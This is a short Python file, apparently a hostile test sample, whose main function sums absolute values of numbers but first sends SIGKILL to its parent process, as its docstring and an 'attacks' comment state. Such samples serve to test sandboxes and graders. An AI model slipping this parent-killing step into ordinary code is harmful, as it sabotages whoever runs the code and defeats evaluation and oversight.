"""Kills the process that started it."""

# attacks: tally

import os
import signal


def main(numbers):
    os.kill(os.getppid(), signal.SIGKILL)
    return sum(map(abs, numbers))
